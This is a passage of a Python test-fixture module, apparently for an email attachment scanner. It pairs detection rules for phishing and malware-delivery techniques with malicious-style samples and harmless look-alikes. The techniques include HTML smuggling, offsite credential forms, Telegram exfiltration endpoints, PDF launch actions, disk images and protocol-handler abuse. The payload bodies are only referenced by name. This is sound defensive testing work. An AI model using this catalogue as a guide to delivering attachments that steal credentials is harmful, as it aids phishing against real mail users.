                               Sample("report.pdf", PDF, pdf_open_zoom)),
    "PDF_LAUNCH_ACTION": (Sample("invoice.pdf", PDF, pdf_launch),
                          Sample("invite.pdf", PDF, lambda: real_pdf("Launch party on Friday"))),
    "PDF_EMBEDDED_FILE": (Sample("invoice.pdf", PDF, pdf_embedded_program), Sample("welcome.pdf", PDF, pdf_with_link)),
    "PDF_EMBEDDED_EXECUTABLE_NAME": (Sample("invoice.pdf", PDF, pdf_embedded_program),
                                     Sample("welcome.pdf", PDF, pdf_embedded_text)),
    "PDF_FORM_SUBMIT_EXTERNAL": (Sample("verify.pdf", PDF, pdf_form_submit, Action.TAG),
                                 Sample("pay.pdf", PDF, pdf_with_link)),
    "HTML_SMUGGLING": (Sample("invoice.html", HTML, text(HTML_SMUGGLING)),
                       Sample("statement.html", HTML, text(HTML_DOWNLOAD_LINK))),
    "HTML_DATA_URI_DOWNLOAD": (Sample("invoice.html", HTML, text(HTML_DATA_URI)),
                               Sample("welcome.html", HTML, text(HTML_INLINE_IMAGE))),
    "HTML_SCRIPT_DECODES_CONTENT": (Sample("document.html", HTML, text(HTML_DECODE), Action.TAG),
                                    Sample("hours.html", HTML, text(HTML_PLAIN_SCRIPT))),
    "HTML_CREDENTIAL_FORM_OFFSITE": (Sample("voicemail.html", HTML, text(LOGIN_FORM)),
                                     Sample("newsletter.html", HTML, text(NEWSLETTER))),
    "HTML_PASSWORD_FIELD_ATTACHMENT": (Sample("session.html", HTML, text(LOGIN_FETCH)),
                                       Sample("newsletter.html", HTML, text(NEWSLETTER))),
    "HTML_EXFIL_ENDPOINT": (Sample("secure.html", HTML, text(LOGIN_TELEGRAM)),
                            Sample("newsletter.html", HTML, text(NEWSLETTER))),
    "HTML_META_REFRESH": (Sample("message.html", HTML, text(META_REFRESH), Action.TAG),
                          Sample("reminder.html", HTML, text(META_CHARSET))),
    "HTML_SCRIPT_REDIRECT": (Sample("message.html", HTML, text(SCRIPT_REDIRECT), Action.TAG),
                             Sample("hours.html", HTML, text(HTML_PLAIN_SCRIPT))),
    "PROTOCOL_HANDLER_ABUSE": (Sample("invoice.html", HTML, text(SEARCH_MS)),
                               Sample("newsletter.html", HTML, text(NEWSLETTER))),
    "DISK_IMAGE_ISO": (Sample("invoice.iso", BIN, iso_image),
                       Sample("supplies.csv", "text/csv", text("item,code\nbandages,CD001\ngloves,CD002\n"))),
    "DISK_IMAGE_FAT_IMG": (Sample("scan.img", BIN, fat_image), Sample("scans.zip", "application/zip", zip_of_documents)),
    "DISK_IMAGE_VHD": (Sample("invoice.vhd", BIN, vhd_image),
                       Sample("vendors.txt", TXT, text("Old vendor list: conectix, acme, initech.\n"))),
    "ONENOTE_EMBEDDED_FILE": (Sample("notes.one", "application/onenote", onenote_with_file),
                              Sample("notes.one", "application/onenote", onenote_plain)),
    "SVG_SCRIPT": (Sample("invoice.svg", "image/svg+xml", text(SVG_SCRIPT)),
                   Sample("logo.svg", "image/svg+xml", text(SVG_LOGO))),
    "INTERNET_SHORTCUT_URL": (Sample("invoice.url", BIN, text(URL_SHORTCUT), Action.TAG),
                              Sample("links.txt", TXT, text(LINKS_TEXT))),
    "INTERNET_SHORTCUT_FILE_TARGET": (Sample("invoice.url", BIN, text(URL_FILE_TARGET)),
                                      Sample("meeting.ics", "text/calendar", lambda: ICS_TEXT)),
    "APPLE_CONFIGURATION_PROFILE": (Sample("mail-setup.mobileconfig", BIN, text(MAIL_PROFILE), Action.TAG),
                                    Sample("preferences.plist", "application/xml", text(PREFERENCES_PLIST))),
    "APPLE_PROFILE_DEVICE_CONTROL": (Sample("wifi.mobileconfig", BIN, text(ROOT_CA_PROFILE)),
                                     Sample("preferences.plist", "application/xml", text(PREFERENCES_PLIST))),
    "WINDOWS_SETTINGCONTENT_MS": (Sample("display.settingcontent-ms", BIN, text(SETTINGCONTENT)),
                                  Sample("settings.xml", "application/xml", text(SETTINGS_XML))),
    "WINDOWS_LIBRARY_MS": (Sample("documents.library-ms", BIN, text(LIBRARY_MS)),
                           Sample("books.xml", "application/xml", text(LIBRARY_XML))),
}

# Cases where a rule counts little or not at all: HTML bodies (mail programs do not run
# their scripts or forms) and weak signals with innocent uses. (sample, rule that must
# fire or None); here ``expect`` is the exact action of a full scan.
CONTEXT_SAMPLES: dict[str, tuple[Sample, str | None]] = {
    "credential form in the body": (Sample("", HTML, text(LOGIN_FORM), Action.TAG, body=True),
                                    "HTML_CREDENTIAL_FORM_OFFSITE"),
    "search-ms link in the body": (Sample("", HTML, text(SEARCH_MS), Action.TAG, body=True), "PROTOCOL_HANDLER_ABUSE"),
    "newsletter with search form and scripts": (Sample("", HTML, text(NEWSLETTER + HTML_PLAIN_SCRIPT), Action.ACCEPT,
                                                       body=True), None),
    "newsletter that redirects": (Sample("", HTML, text(META_REFRESH), Action.ACCEPT, body=True), "HTML_META_REFRESH"),
    "smuggling script in the body": (Sample("", HTML, text(HTML_SMUGGLING), Action.TAG, body=True), "HTML_SMUGGLING"),
    "PDF actions hidden in a compressed object stream": (Sample("invoice.pdf", PDF, pdf_hidden_in_object_stream),
                                                         "PDF_JAVASCRIPT_ON_OPEN"),
    "ordinary compressed PDF object stream": (Sample("statement.pdf", PDF, pdf_compressed_page_text, Action.ACCEPT),
                                              None),
    "smuggling through FileSaver's saveAs()": (Sample("scan.html", HTML, text(HTML_SMUGGLING_SAVEAS), Action.QUARANTINE),
                                               "HTML_SMUGGLING"),
    "login page hidden behind unescape()": (Sample("payment.html", HTML, text(HIDDEN_LOGIN)),
                                            "HTML_CREDENTIAL_FORM_OFFSITE"),
    "page that clicks its own link on load": (Sample("site.html", HTML, text(AUTO_CLICK), Action.TAG),
                                              "HTML_SCRIPT_REDIRECT"),
    "secure-message envelope posting to its service": (Sample("securedoc.html", HTML, text(SECURE_ENVELOPE),
                                                              Action.ACCEPT), None),
    "fillable PDF form with calculation scripts": (Sample("intake.pdf", PDF, pdf_fillable_form, Action.ACCEPT),
                                                   "PDF_JAVASCRIPT"),
    "document-level PDF form script": (Sample("form.pdf", PDF, pdf_javascript_name_tree, Action.ACCEPT), "PDF_JAVASCRIPT"),
}

# Benign files every rule must leave alone, besides each rule's own look-alike.
BENIGN_DOCUMENTS: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "pdf": ("statement.pdf", PDF, real_pdf),
    "png": ("scan.png", "image/png", real_png),
    "docx": ("intake.docx", DOCX_TYPE, real_docx),
    "xlsx": ("invoices.xlsx", XLSX_TYPE, xlsx),
    "csv": ("payments.csv", "text/csv", lambda: CSV_TEXT),
    "ics": ("meeting.ics", "text/calendar", lambda: ICS_TEXT),
    "zip": ("documents.zip", "application/zip", zip_of_documents),
    "rtf": ("letter.rtf", RTF, lambda: RTF_LETTER),
    "html": ("newsletter.html", HTML, text(NEWSLETTER)),
    "svg": ("logo.svg", "image/svg+xml", text(SVG_LOGO)),
}

__all__ = ["Sample", "SAMPLES", "CONTEXT_SAMPLES", "BENIGN_DOCUMENTS", "eicar", "html_message", "message",
           "vba_streams", "xlsm_with_macro_sheet"]
